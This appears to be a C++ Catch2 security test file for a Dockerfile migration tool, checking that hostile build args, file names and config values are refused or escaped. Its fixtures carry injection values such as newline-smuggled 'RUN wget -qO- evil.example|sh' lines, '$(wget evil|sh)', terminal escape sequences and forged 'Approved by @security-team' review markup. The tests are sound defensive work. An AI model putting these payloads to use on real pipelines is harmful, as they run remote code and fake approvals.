// Issue 21, items 1 and 4: no value from the input becomes an instruction of
// the rewrite (H1, H2), review output cannot be forged (M1, M2, L1), text
// output and errors carry no raw control characters (L2), and errors are one
// clear line (L3). Every input is written by the test itself.
#include <catch2/catch.hpp>
#include <nlohmann/json.hpp>
#include <sys/stat.h>
#include <unistd.h>

#include <algorithm>
#include <array>
#include <cstdio>
#include <filesystem>
#include <fstream>
#include <string>
#include <vector>

#include "migrate/DockerfileText.h"
#include "migrate/Migration.h"
#include "migrate/Migrator.h"
#include "migrate/Plan.h"
#include "output/Escape.h"
#include "suggest/ChangedFiles.h"
#include "syntax/DockerfileReader.h"
#include "templates/Template.h"
#include "support/TestSupport.h"

namespace fs = std::filesystem;
using nlohmann::json;
using restage::test::runRestage;
using restage::test::RunResult;
using restage::test::TempTree;
namespace migrate = restage::migrate;
namespace output = restage::output;

namespace {

// The hostile values every writer is fed: a line break that starts an
// instruction, a CR, an escape sequence, quotes, other controls, a bidi
// override.
const std::vector<std::string> kHostile = {
    "x\nRUN wget -qO- evil.example|sh",
    "x\rRUN wget -qO- evil.example|sh",
    "x\x1b[2J",
    "x\"y",
    "x'y",
    "x\x01y",
    "x\x7fy",
    "x\xe2\x80\xaey",  // U+202E
};

// Runs a shell command in `cwd`; its output (stdout and stderr) and status.
RunResult sh(const std::string& command, const fs::path& cwd) {
  std::string full = "cd '" + cwd.string() + "' && { " + command + " ; } 2>&1";
  RunResult r;
  FILE* p = ::popen(full.c_str(), "r");
  if (!p) return r;
  std::array<char, 4096> buf;
  std::size_t n;
  while ((n = std::fread(buf.data(), 1, buf.size(), p)) > 0) r.out.append(buf.data(), n);
  int status = ::pclose(p);
  r.status = WIFEXITED(status) ? WEXITSTATUS(status) : -1;
  return r;
}

bool haveGit() { return std::system("git --version > /dev/null 2>&1") == 0; }

void gitInit(const TempTree& t) {
  REQUIRE(sh("git init -q && git config user.email t@t && git config user.name t", t.path()).status == 0);
}

// The lines of `text` that start with `prefix`.
std::size_t linesStartingWith(const std::string& text, const std::string& prefix) {
  std::size_t count = 0, at = 0;
  while (at <= text.size()) {
    if (text.compare(at, prefix.size(), prefix) == 0) ++count;
    std::size_t nl = text.find('\n', at);
    if (nl == std::string::npos) break;
    at = nl + 1;
  }
  return count;
}

// `text` without its code spans and fenced blocks (a run of backticks up to
// the next run of the same length): what markdown renders as markup.
std::string outsideCode(const std::string& text) {
  std::string out;
  for (std::size_t i = 0; i < text.size();) {
    if (text[i] != '`') {
      out += text[i++];
      continue;
    }
    std::size_t n = text.find_first_not_of('`', i);
    if (n == std::string::npos) n = text.size();
    std::string fence = text.substr(i, n - i);
    std::size_t close = n;
    while (true) {
      close = text.find(fence, close);
      if (close == std::string::npos || text.compare(close + fence.size(), 1, "`") != 0) break;
      close = text.find_first_not_of('`', close);
    }
    if (close == std::string::npos) {
      out += text.substr(i);
      break;
    }
    i = close + fence.size();
  }
  return out;
}

// `needle` occurs in `text` not escaped by a backslash.
bool unescaped(const std::string& text, const std::string& needle) {
  for (std::size_t at = text.find(needle); at != std::string::npos; at = text.find(needle, at + 1)) {
    if (at == 0 || text[at - 1] != '\\') return true;
  }
  return false;
}

bool hasRawControl(const std::string& text) {
  for (std::size_t i = 0; i < text.size(); ++i) {
    auto c = static_cast<unsigned char>(text[i]);
    if (c == '\n' || c == '\t') continue;
    if (c < 0x20 || c == 0x7F) return true;
    if (text.compare(i, 3, "\xe2\x80\xae") == 0) return true;
  }
  return false;
}

json jsonOf(const RunResult& r) {
  INFO("stdout: " << r.out << "\nstderr: " << r.err);
  return json::parse(r.out);
}

const char* kNodeDockerfile =
    "ARG NODE_VERSION=18\nFROM node:${NODE_VERSION}\nWORKDIR /usr/src/app\nCOPY package*.json ./\nRUN npm ci\n"
    "COPY . .\nRUN npm run build\nCMD [\"node\", \"dist/server.js\"]\n";
const char* kPackageJson = "{\"name\": \"app\", \"scripts\": {\"build\": \"tsc\"}}\n";

void nodeApp(const TempTree& t, const std::string& dir = ".") {
  t.write(dir + "/Dockerfile", kNodeDockerfile);
  t.write(dir + "/package.json", kPackageJson);
  t.write(dir + "/src/server.js", "require('http').createServer(() => {}).listen(8080);\n");
}

}  // namespace

// ---- H1/H2: the one rule, fed every hostile value ---------------------------

TEST_CASE("Every Dockerfile-text check refuses every hostile value", "[security][injection]") {
  for (const auto& v : kHostile) {
    INFO("value: " << migrate::showValue(v));
    CHECK_THROWS_AS(migrate::dockerToken("t", v), migrate::UnsafeValue);
    CHECK_THROWS_AS(migrate::dockerTokens("t", "/a " + v), migrate::UnsafeValue);
    CHECK_THROWS_AS(migrate::packageName(v), migrate::UnsafeValue);
    CHECK_THROWS_AS(migrate::shellPlainWord("t", v), migrate::UnsafeValue);
    CHECK_FALSE(migrate::validImageReference("node:" + v));
    CHECK_FALSE(migrate::validImageReference(v));
    bool control = v.find_first_of("\n\r\x1b\x01\x7f") != std::string::npos || v.find("\xe2\x80\xae") != std::string::npos;
    if (control) {
      CHECK_THROWS_AS(migrate::dockerLine("t", v), migrate::UnsafeValue);
      CHECK_THROWS_AS(migrate::shellWord("t", v), migrate::UnsafeValue);
      CHECK_THROWS_AS(migrate::envAssignment("t", "A=" + v), migrate::UnsafeValue);
      CHECK_THROWS_AS(migrate::generatedInstruction("RUN apt-get install -y " + v), migrate::UnsafeValue);
      // A template value: in either context.
      CHECK_THROWS_AS(restage::templates::render("COPY {{x}} /y\n", json{{"x", v}}), migrate::UnsafeValue);
      CHECK_THROWS_AS(restage::templates::render("RUN cd {{x}}\n", json{{"x", v}}, restage::templates::Context::Shell),
                      migrate::UnsafeValue);
    } else {
      // A quote: one shell argument still, quoted; never a bare quote.
      std::string w = migrate::shellWord("t", v);
      CHECK(w.front() == '\'');
      CHECK_THROWS_AS(restage::templates::render("RUN cd {{x}}\n", json{{"x", v}}, restage::templates::Context::Shell),
                      migrate::UnsafeValue);
    }
  }
  // A blank, a backslash (line continuation) and a leading dash (a flag)
  // cannot end or change a token either.
  CHECK_THROWS_AS(migrate::dockerToken("t", "/a b"), migrate::UnsafeValue);
  CHECK_THROWS_AS(migrate::dockerToken("t", "/a\\"), migrate::UnsafeValue);
  CHECK_THROWS_AS(migrate::dockerToken("t", "--chmod=777"), migrate::UnsafeValue);
  CHECK_THROWS_AS(migrate::dockerLine("t", "/a\\"), migrate::UnsafeValue);
  CHECK_THROWS_AS(migrate::generatedInstruction("RUN a \\\nRUN b\nRUN c"), migrate::UnsafeValue);
  CHECK_THROWS_AS(migrate::shellWord("t", "$(wget evil|sh)"), migrate::UnsafeValue);
  CHECK_THROWS_AS(migrate::packageName("curl;wget"), migrate::UnsafeValue);
  // An exec form restage writes keeps every code point, controls as \u escapes.
  CHECK(migrate::execForm({"node", "a\nRUN x", "b\xe2\x80\xae" "c", "d\xc2\x9b" "e"}) ==
        "[\"node\", \"a\\nRUN x\", \"b\\u202ec\", \"d\\u009be\"]");
}

TEST_CASE("Safe values pass the rule unchanged", "[security][injection]") {
  // restage's own expandable ENV values stay as they are.
  CHECK_NOTHROW(migrate::envAssignment("t", "PATH=\"/opt/x/bin:$PATH\""));
  CHECK_NOTHROW(migrate::envAssignment("t", "LD_LIBRARY_PATH=/opt/gcc/lib64:$LD_LIBRARY_PATH"));
  CHECK_NOTHROW(migrate::envAssignment("t", "NODE_ENV=production"));
  CHECK_THROWS_AS(migrate::envAssignment("t", "A=b c"), migrate::UnsafeValue);
  // A multi-source COPY: each word checked, the list accepted.
  CHECK_NOTHROW(migrate::dockerTokens("t", "/opt/gcc/lib64/libstdc++.so.6 /opt/gcc/lib64/libgcc_s.so.1"));
  CHECK(migrate::shellWord("t", "--uid") == "--uid");
  CHECK(migrate::shellWord("t", "App User") == "'App User'");
  CHECK(migrate::shellWord("t", "$APP_UID") == "$APP_UID");
  CHECK(migrate::packageName("python3=3.11*") == "python3=3.11*");
  CHECK_NOTHROW(migrate::generatedInstruction("# a comment\nRUN apt-get update \\\n    && apt-get install -y curl"));
  for (const char* ref : {"node:20-slim", "gcr.io/distroless/nodejs20-debian12:nonroot", "localhost:5000/a/b:1.0",
                          "debian@sha256:0123456789abcdef0123456789abcdef0123456789abcdef0123456789abcdef",
                          "registry.example.com/team/app_x__y-z:v1.2_3"}) {
    CHECK(migrate::validImageReference(ref));
  }
  for (const char* ref : {"node:20-alpine\nRUN x", "Node:20", "node:", "node:20 AS x", "node:20`**x**`", "-node",
                          "node::20", "node@sha256:abc"}) {
    CHECK_FALSE(migrate::validImageReference(ref));
  }
}

TEST_CASE("The rewrite read back must have exactly the planned instructions", "[security][injection]") {
  std::vector<std::string> planned = {"from", "run", "from", "copy", "cmd"};
  auto read = [](const std::string& text) { return restage::syntax::readDockerfile(text, "Dockerfile"); };
  CHECK_FALSE(migrate::unplannedInstructions(planned, read("FROM a AS b\nRUN x\nFROM c\nCOPY --from=b /x /x\nCMD [\"/x\"]\n")));
  // One more RUN (a value that slipped a line break in), or a line that is
  // no instruction at all: refused, the place named.
  auto extra = migrate::unplannedInstructions(
      planned, read("FROM a AS b\nRUN x\nFROM c\nRUN wget -qO- evil.example|sh\nCOPY --from=b /x /x\nCMD [\"/x\"]\n"));
  REQUIRE(extra);
  CHECK(*extra == "the rewrite has 6 instructions where restage planned 5 (instruction 4 is RUN, planned: COPY)");
  auto prose = migrate::unplannedInstructions(
      planned, read("FROM a AS b\nRUN x\nFROM c\nCOPY --from=b /x /x\nLooks good to me\nCMD [\"/x\"]\n"));
  REQUIRE(prose);
  CHECK(prose->find("instruction 5 is LOOKS") != std::string::npos);
}

TEST_CASE("H1: a compose build arg with a newline is refused, never written as an instruction",
          "[security][injection][reproducer]") {
  TempTree t;
  nodeApp(t);
  t.write("compose.yaml",
          "services:\n  web:\n    build:\n      context: .\n      args:\n"
          "        NODE_VERSION: \"20-alpine\\nRUN wget -qO- evil.example|sh\"\n");
  RunResult diff = runRestage({"batch", ".", "--no-git", "--diff"}, t.path());
  INFO(diff.out << diff.err);
  CHECK(linesStartingWith(diff.out, "+RUN wget") == 0);
  CHECK(diff.out.find("evil.example") == std::string::npos);
  CHECK(hasRawControl(diff.err) == false);

  json report = jsonOf(runRestage({"batch", ".", "--no-git", "--format", "json"}, t.path()));
  REQUIRE(report["files"].size() == 1);
  CHECK(report["files"][0]["status"] == "refused");
  CHECK(report["files"][0]["code"] == "invalid-base");

  // The review suggestion, and --write: the file stays as it was.
  RunResult review = runRestage({"suggest", "Dockerfile", "-f", "github-review"}, t.path());
  CHECK(review.out.find("RUN wget") == std::string::npos);
  runRestage({"batch", ".", "--no-git", "--write"}, t.path());
  CHECK(restage::test::readText(t / "Dockerfile") == kNodeDockerfile);

  // --build-arg the same.
  json one = jsonOf(runRestage({"migrate", "Dockerfile", "--format", "json", "--build-arg",
                                "NODE_VERSION=20-alpine\nRUN wget -qO- evil.example|sh"},
                               t.path()));
  CHECK(one["code"] == "invalid-base");
  // A plain value still migrates.
  json fine = jsonOf(runRestage({"migrate", "Dockerfile", "--format", "json", "--build-arg", "NODE_VERSION=20"}, t.path()));
  CHECK(fine["status"] == "migrated");
}

TEST_CASE("H2: decoded $'...' words (packages, paths, users) never become instructions",
          "[security][injection][reproducer]") {
  struct Case {
    const char* name;
    std::string step;  // line 2 of a Go Dockerfile
  };
  std::vector<Case> cases;
  for (const char* v : {"\\n", "\\r", "\\e[2J", "\\x01"}) {
    std::string payload = std::string("x") + v + "RUN wget -qO- evil.example|sh";
    cases.push_back({"apt package", "RUN apt-get update && apt-get install -y curl $'ca-certificates" + payload.substr(1) + "'"});
    cases.push_back({"mkdir path", "RUN mkdir -p $'/var/lib/app" + payload.substr(1) + "\\n#'"});
    cases.push_back({"useradd comment", "RUN useradd -c $'App" + payload.substr(1) + "' app\nUSER app"});
    cases.push_back({"useradd user", "RUN useradd $'app" + payload.substr(1) + "' && mkdir -p /var/lib/app && chown app /var/lib/app"});
  }
  cases.push_back({"useradd quote", "RUN useradd -c $'App \\' User' app\nUSER app"});
  for (const auto& c : cases) {
    INFO(c.name << ": " << c.step);
    TempTree t;
    t.write("go.mod", "module example.com/app\n\ngo 1.22\n");
    t.write("main.go", "package main\n\nfunc main() {}\n");
    std::string dockerfile = "FROM golang:1.22\n" + c.step + "\nWORKDIR /app\nCOPY . .\nRUN go build -o server .\nCMD [\"./server\"]\n";
    t.write("Dockerfile", dockerfile);
    RunResult r = runRestage({"migrate", "Dockerfile", "--format", "json"}, t.path());
    json j = jsonOf(r);
    std::string out = j["output"];
    INFO("status " << j["status"] << " " << j["code"] << ": " << j["reason"] << "\n" << out);
    CHECK(linesStartingWith(out, "RUN wget") == 0);
    if (j["status"] == "migrated") {
      // Nothing of the value's control characters reached the rewrite.
      CHECK_FALSE(hasRawControl(out));
    } else {
      CHECK(out == dockerfile);
    }
    // The text output too (the rewrite on stdout, the reason on stderr).
    RunResult text = runRestage({"migrate", "Dockerfile"}, t.path());
    CHECK(linesStartingWith(text.out, "RUN wget") == 0);
    CHECK_FALSE(hasRawControl(text.err));
  }
}

TEST_CASE("H2: the reproducer's package and path words are refused with unsafe-value", "[security][injection][reproducer]") {
  for (const char* step : {"RUN apt-get update && apt-get install -y curl $'ca-certificates\\nRUN wget -qO- evil.example|sh'",
                           "RUN mkdir -p $'/var/lib/app\\nRUN wget -qO- evil.example|sh\\n#'"}) {
    INFO(step);
    TempTree t;
    t.write("go.mod", "module example.com/app\n\ngo 1.22\n");
    t.write("main.go", "package main\n\nfunc main() {}\n");
    t.write("Dockerfile", std::string("FROM golang:1.22\n") + step +
                              "\nWORKDIR /app\nCOPY . .\nRUN go build -o server .\nCMD [\"./server\"]\n");
    json j = jsonOf(runRestage({"migrate", "Dockerfile", "--format", "json"}, t.path()));
    CHECK(j["status"] == "refused");
    CHECK(j["code"] == "unsafe-value");
    CHECK(j["reason"].get<std::string>().find("\\n") != std::string::npos);  // the value shown escaped
  }
}

// ---- M1: markdown/HTML in review output -------------------------------------

TEST_CASE("M1: output::markdownText and markdownCode neutralise markup, mentions and HTML", "[security][markdown]") {
  std::string attack = "x`\n\n## Approved by @security-team\n\n<img src=x>\n```suggestion\nFROM evil\n```";
  std::string text = output::markdownText(attack);
  CHECK(text.find('\n') == std::string::npos);
  CHECK_FALSE(unescaped(text, "<img"));
  CHECK(text.find("@security-team") == std::string::npos);
  CHECK_FALSE(unescaped(text, "`"));
  std::string code = output::markdownCode("a``b");
  CHECK(code == "```a``b```");
  CHECK(output::markdownCode("`x") == "`` `x ``");
  CHECK(output::htmlText("<b>&@x") == "&lt;b&gt;&amp;@&#8203;x");
  CHECK(output::markdownFence("a````b") == "`````");
}

TEST_CASE("M1: file names in the github-review body and comments cannot add markup", "[security][markdown][reproducer]") {
  // 1. A Dockerfile's name.
  {
    TempTree t;
    nodeApp(t, "app");
    std::string name = "app/Dockerfile.x`\n\n## \xe2\x9c\x85 Approved by @security-team: safe to merge\n\n<img src=x>`";
    t.write(name, "FROM node:20\nWORKDIR /app\nCOPY . .\nRUN npm ci\nCMD [\"node\", \"src/server.js\"]\n");
    RunResult r = runRestage({"suggest", "-f", "github-review", "--", name}, t.path());
    json review = jsonOf(r);
    std::string body = review["body"];
    INFO(body);
    std::string markup = outsideCode(body);
    CHECK(linesStartingWith(body, "## ") == 0);
    CHECK(markup.find("@security-team") == std::string::npos);
    CHECK(markup.find("<img") == std::string::npos);
  }
  // 2. A file name in the build context, listed in the explanation.
  {
    TempTree t;
    t.write("go.mod", "module example.com/app\n\ngo 1.22\n");
    t.write("main.go", "package main\n\nfunc main() {}\n");
    t.write("config\n\n```suggestion\nFROM evil\n```\n\n## Approved @security-team <img src=x>.yaml", "a: 1\n");
    t.write("Dockerfile", "FROM golang:1.22\nWORKDIR /app\nCOPY . .\nRUN go build -o server .\nCMD [\"./server\"]\n");
    json review = jsonOf(runRestage({"suggest", "Dockerfile", "-f", "github-review"}, t.path()));
    std::string all = review.dump();
    INFO(all);
    for (const auto& c : review["comments"]) {
      std::string body = c["body"];
      CHECK(linesStartingWith(body, "```suggestion") + linesStartingWith(body, "````suggestion") == 1);
      CHECK(linesStartingWith(body, "FROM evil") == 0);
      CHECK(outsideCode(body).find("@security-team") == std::string::npos);
      CHECK_FALSE(unescaped(outsideCode(body), "<img"));
    }
    std::string body = review["body"];
    CHECK(outsideCode(body).find("@security-team") == std::string::npos);
    CHECK_FALSE(unescaped(outsideCode(body), "<img"));
    CHECK(linesStartingWith(body, "```") == 0);
    CHECK(linesStartingWith(body, "FROM evil") == 0);
    // rdjson (posted as markdown by reviewdog) the same.
    json rd = jsonOf(runRestage({"suggest", "Dockerfile", "-f", "rdjson"}, t.path()));
    for (const auto& d : rd["diagnostics"]) {
      std::string m = d["message"];
      CHECK(m.find('\n') == std::string::npos);
      CHECK(m.find("@security-team") == std::string::npos);
      CHECK_FALSE(unescaped(m, "<img"));
    }
  }
  // 3. runtime-base in .restage.yaml must be an image reference.
  {
    TempTree t;
    nodeApp(t);
    t.write(".restage.yaml",
            "runtime-base:\n  node: \"node:20-slim`**Approved**_by_@security-team_<img/src=https:evil.example>`\"\n");
    RunResult r = runRestage({"suggest", "Dockerfile", "-f", "github-review"}, t.path());
    CHECK(r.status == 2);
    CHECK(r.err.find("is not an image reference") != std::string::npos);
    CHECK(r.out.find("@security-team") == std::string::npos);
  }
}

// ---- M2: action.yml and `--` ------------------------------------------------

TEST_CASE("M2: action.yml's sarif step passes paths NUL-separated after --", "[security][argv][reproducer]") {
  if (!haveGit() || std::system("command -v python3 > /dev/null && command -v bash > /dev/null") != 0) {
    WARN("git, python3 or bash missing: action step not run");
    return;
  }
  // The step's script, as action.yml has it.
  // (__FILE__ may be relative to the build folder, which holds the test.)
  fs::path self = fs::path(__FILE__), exe = fs::read_symlink("/proc/self/exe");
  fs::path source;
  for (fs::path p = exe.parent_path(); !p.empty(); p = p.parent_path()) {
    fs::path file = self.is_absolute() ? self : p / self;
    if (fs::exists(file)) {
      source = file.parent_path().parent_path().parent_path();
      break;
    }
    if (p == p.root_path()) break;
  }
  std::ifstream in(source / "action.yml");
  REQUIRE(in);
  std::string line, script;
  bool inStep = false, inRun = false;
  while (std::getline(in, line)) {
    if (line == "      id: sarif") inStep = true;
    else if (inStep && line == "      run: |") inRun = true;
    else if (inRun && (line.rfind("        ", 0) == 0 || line.empty())) script += (line.empty() ? "" : line.substr(8)) + "\n";
    else if (inRun) break;
  }
  REQUIRE_FALSE(script.empty());
  // restage's binary: beside the test's build folder.
  fs::path restage;
  for (fs::path p = fs::read_symlink("/proc/self/exe").parent_path(); !p.empty() && p != p.root_path(); p = p.parent_path()) {
    if (fs::is_regular_file(p / "restage") && ::access((p / "restage").c_str(), X_OK) == 0) {
      restage = p / "restage";
      break;
    }
  }
  REQUIRE_FALSE(restage.empty());

  TempTree t;
  t.mkdir("repo");
  t.mkdir("tmp");
  t.mkdir("bin");
  t.write("step.sh", script);
  fs::create_symlink(restage, t / "tmp/restage");
  // An engine that would show it ran.
  t.write("bin/docker", "#!/bin/sh\necho \"$@\" >> \"$ENGINE_LOG\"\nexit 1\n");
  ::chmod((t / "bin/docker").c_str(), 0755);
  const char* df = "FROM node:20\nWORKDIR /app\nCOPY . .\nRUN npm ci\nCMD [\"node\", \"s.js\"]\n";
  t.write("repo/Dockerfile", df);
  t.write("repo/package.json", "{}\n");
  t.write("repo/Dockerfile.a\n--verify", df);
  t.write("repo/-v.Dockerfile", df);  // a name that starts with '-': a file after `--`
  RunResult r = sh("ENGINE_LOG=\"" + (t / "engine.log").string() + "\" PATH=\"" + (t / "bin").string() +
                       ":$PATH\" RUNNER_TEMP=\"" + (t / "tmp").string() + "\" REF= PATHS=. SARIF=out.sarif GITHUB_OUTPUT=/dev/null " +
                       "bash \"" + (t / "step.sh").string() + "\"",
                   t / "repo");
  INFO(r.out);
  CHECK(r.status == 0);
  CHECK_FALSE(fs::exists(t / "engine.log"));
  json sarif = json::parse(restage::test::readText(t / "repo/out.sarif"));
  CHECK(sarif["runs"][0]["results"].size() == 3);  // every Dockerfile, the odd names included
}

// ---- L1: the diff parser ----------------------------------------------------

TEST_CASE("L1: a content line '+++ b/X' inside a hunk is content", "[security][diff][reproducer]") {
  std::string diff =
      "diff --git a/Dockerfile b/Dockerfile\n"
      "index 1111111..2222222 100644\n"
      "--- a/Dockerfile\n"
      "+++ b/Dockerfile\n"
      "@@ -9 +9 @@ RUN npm run build\n"
      "-ENV PORT=8080\n"
      "+ENV PORT=8081\n"
      "diff --git a/notes.txt b/notes.txt\n"
      "index 3333333..4444444 100644\n"
      "--- a/notes.txt\n"
      "+++ b/notes.txt\n"
      "@@ -1 +1 @@\n"
      "-1\n"
      "+++ b/Dockerfile\n"
      "@@ -3,18 +3,18 @@\n"
      "-3\n"
      "+changed\n";
  auto added = restage::suggest::parseAddedLines(diff);
  REQUIRE(added.count("Dockerfile") == 1);
  REQUIRE(added["Dockerfile"].size() == 1);
  CHECK(added["Dockerfile"][0].first == 9);
  CHECK(added["Dockerfile"][0].last == 9);
  REQUIRE(added.count("notes.txt") == 1);
  CHECK(added["notes.txt"].size() == 2);

  if (!haveGit()) return;
  // End to end, as the reproducer: the pull request changes line 9 only, so
  // the suggestion (lines 3-11) cannot be a comment; it goes into the body.
  TempTree t;
  gitInit(t);
  std::string df =
      "# header\n# A typical single-stage Node.js image: build tools, devDependencies and all.\nFROM node:20\n"
      "WORKDIR /usr/src/app\nCOPY package*.json ./\nRUN npm ci\nCOPY . .\nRUN npm run build\nENV PORT=8080\n"
      "EXPOSE 8080\nCMD [\"node\", \"dist/server.js\"]\n";
  t.write("Dockerfile", df);
  t.write("package.json",
          "{\"name\": \"app\", \"main\": \"dist/server.js\", \"scripts\": {\"build\": \"mkdir -p dist && cp "
          "src/server.js dist/server.js\", \"start\": \"node dist/server.js\"}, \"dependencies\": {}}\n");
  std::string notes;
  for (int i = 1; i <= 40; ++i) notes += std::to_string(i) + "\n";
  t.write("notes.txt", notes);
  REQUIRE(sh("git add . && git commit -qm base", t.path()).status == 0);
  std::string changed = df;
  changed.replace(changed.find("PORT=8080"), 9, "PORT=8081");
  t.write("Dockerfile", changed);
  std::string spoof = "++ b/Dockerfile\n2\n";
  for (int i = 3; i <= 20; ++i) spoof += "changed\n";
  for (int i = 21; i <= 40; ++i) spoof += std::to_string(i) + "\n";
  t.write("notes.txt", spoof);
  REQUIRE(sh("git add . && git commit -qm pr", t.path()).status == 0);
  json review = jsonOf(runRestage({"suggest", "--changed-from", "HEAD~1", "-f", "github-review"}, t.path()));
  INFO(review.dump());
  for (const auto& c : review["comments"]) {
    CHECK(c["line"] == 9);
    CHECK((!c.contains("start_line") || c["start_line"] == 9));
  }
  CHECK(review["body"].get<std::string>().find("outside this pull request's changes") != std::string::npos);
}

// ---- L2: control characters in text output ---------------------------------

TEST_CASE("L2: control characters from names, config and compose are escaped in text output", "[security][terminal][reproducer]") {
  {
    TempTree t;
    t.write("Dockerfile.\x1b[2K\x1b[1A\x1b[32mall good\x1b[0m\xe2\x80\xae", "FROM scratch\nCOPY a b # x\n");
    RunResult r = runRestage({"batch", ".", "--no-git"}, t.path());
    INFO(r.out << r.err);
    CHECK_FALSE(hasRawControl(r.out));
    CHECK_FALSE(hasRawControl(r.err));
    CHECK(r.out.find("\\033[32mall good") != std::string::npos);
    // --format github: file= and the message.
    RunResult g = runRestage({"batch", ".", "--no-git", "--format", "github"}, t.path());
    CHECK_FALSE(hasRawControl(g.out));
  }
  {
    TempTree t;
    t.write(".restage.yaml", "\"\\e[2J\\e[H\\e[32mall checks passed\\e[0m\\nfoo\": 1\n");
    t.write("Dockerfile", "FROM scratch\n");
    RunResult r = runRestage({"batch", ".", "--no-git"}, t.path());
    INFO(r.err);
    CHECK(r.status == 2);
    CHECK_FALSE(hasRawControl(r.err));
    CHECK(std::count(r.err.begin(), r.err.end(), '\n') == 1);  // one line
    CHECK(r.err.find("error: unknown key") != std::string::npos);
  }
  {
    TempTree t;
    t.write("Dockerfile", "ARG V=18\nFROM node:${V}\nWORKDIR /app\nCOPY . .\nRUN npm ci\nCMD [\"node\",\"s.js\"]\n");
    t.write("package.json", "{}\n");
    t.write("compose.yaml",
            "services:\n  web:\n    build:\n      context: .\n      args:\n"
            "        V: \"20\\nsvc/Dockerfile: unchanged [ok]\\nrestage batch summary: 0 findings\"\n");
    RunResult r = runRestage({"batch", ".", "--no-git"}, t.path());
    INFO(r.out);
    CHECK(linesStartingWith(r.out, "svc/Dockerfile") == 0);
    CHECK(linesStartingWith(r.out, "restage batch summary: 0 findings") == 0);
  }
  CHECK(output::terminalText("a\x1b[2Jb\n\xe2\x80\xae\xc2\x9b") == "a\\033[2Jb\\n\\u202e\\u009b");
}

// ---- L3: error messages -----------------------------------------------------

TEST_CASE("L3: errors are one clear line", "[security][errors][reproducer]") {
  const char* df = "FROM node:20\nWORKDIR /app\nCOPY . .\nRUN npm ci\nCMD [\"node\",\"s.js\"]\n";
  {
    TempTree t;
    t.write("1/Dockerfile", df);
    t.write("1/compose.yaml", "services: " + std::string(5000, '[') + std::string(5000, ']') + "\n");
    RunResult r = runRestage({"batch", "1", "--no-git"}, t.path());
    INFO(r.err);
    CHECK(r.status == 2);
    CHECK(r.err.starts_with("1/compose.yaml:1:"));
    CHECK(r.err.find(": error: invalid YAML: nested too deeply") != std::string::npos);
    CHECK(r.err.find("bad file") == std::string::npos);
  }
  {
    TempTree t;
    RunResult r = runRestage({"suggest", "-f", "github-review", "Dockerfile.missing"}, t.path());
    INFO(r.err);
    CHECK(r.err == "Dockerfile.missing: error: cannot open: No such file or directory\n");
    RunResult m = runRestage({"migrate", "Dockerfile.missing"}, t.path());
    CHECK(m.err == "restage: error: Dockerfile.missing: cannot open: No such file or directory\n");
    // An unknown command quoting a line break: one line, then the usage.
    RunResult u = runRestage({"x\nrestage: all good"}, t.path());
    CHECK(u.err.starts_with("restage: error: unknown command 'x\\nrestage: all good'\nusage: restage"));
  }
  {
    TempTree t;
    t.mkdir("4");
    t.symlink("x.Dockerfile", "4/y.Dockerfile");
    t.symlink("y.Dockerfile", "4/x.Dockerfile");
    RunResult r = runRestage({"batch", "4", "--no-git"}, t.path());
    INFO(r.out);
    CHECK(r.out.find("symlink loop") != std::string::npos);
    CHECK(r.out.find("does not exist") == std::string::npos);
  }
  {
    TempTree t;
    t.write("Dockerfile", df);
    t.write("package.json", "{}\n");
    std::string entry;
    for (int i = 0; i < 130000; ++i) entry += "a|";
    t.write("compose.yaml", "services:\n  web:\n    build: .\n    entrypoint: \"" + entry + "a\"\n");
    RunResult text = runRestage({"batch", ".", "--no-git"}, t.path());
    std::size_t longest = 0, at = 0;
    while (at < text.out.size()) {
      std::size_t nl = text.out.find('\n', at);
      if (nl == std::string::npos) nl = text.out.size();
      longest = std::max(longest, nl - at);
      at = nl + 1;
    }
    CHECK(longest < 1200);
    json report = jsonOf(runRestage({"batch", ".", "--no-git", "--format", "json"}, t.path()));
    CHECK(report["files"][0]["reason"].get<std::string>().size() < 1200);
  }
}
